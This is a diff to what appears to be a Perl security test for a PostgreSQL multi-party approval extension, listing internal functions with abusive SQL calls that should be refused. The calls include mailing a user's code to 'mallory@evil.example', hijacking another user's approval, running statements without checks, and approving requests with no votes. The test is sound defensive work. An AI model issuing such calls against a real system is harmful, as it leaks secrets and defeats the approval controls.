@@ -358,6 +358,12 @@ my @internal = (
 	# worker would render alice's valid code into it.
 	[ 'mpa.queue_mail (alice\'s code to the attacker)',
 		"SELECT mpa.queue_mail('code', 'mallory\@evil.example', 'your code', 'code: {{code}}', 600, NULL, $challenge)" ],
+	# Claims rita's approval for another database's transaction of the
+	# caller's (an xid in progress holds it executing: nobody may spend it).
+	[ 'mpa.claim_execution (holding an approval)',
+		"SELECT mpa.claim_execution(1, 'rita', 'x', '{}', '{}', '{}', '{}', pg_current_xact_id())" ],
+	# Runs a request's statement in another database without mpa_execute's checks.
+	[ 'mpa.run_approved_statement_elsewhere', "SELECT mpa.run_approved_statement_elsewhere($req, 'public')" ],
 	# Closes rita's request as approved, with no vote at all.
 	[ 'mpa.finish (approving without votes)',
 		"SELECT mpa.finish(r, 'approved', 'x') FROM mpa.requests r WHERE id = $req" ],
